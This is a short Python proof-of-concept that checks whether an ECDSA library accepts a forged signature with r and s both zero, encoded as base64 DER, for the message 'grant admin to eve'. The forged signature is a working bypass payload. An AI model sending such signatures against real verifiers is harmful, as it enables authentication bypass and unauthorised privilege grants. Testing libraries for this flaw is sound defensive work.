from ellipticcurve.ecdsa import Ecdsa
from ellipticcurve.privateKey import PrivateKey
from ellipticcurve.signature import Signature

public_key = PrivateKey(secret=424242).publicKey()
message = "grant admin to eve"
# What an attacker sends over the wire: a DER SEQUENCE of two zero INTEGERs, base64-encoded.
forged = Signature.fromBase64("MAYCAQACAQA=")
print("r, s =", forged.r, forged.s)
if Ecdsa.verify(message, forged, public_key):
    print("VULNERABLE: a signature received from the network verified without the private key")
else:
    print("forged signature rejected")
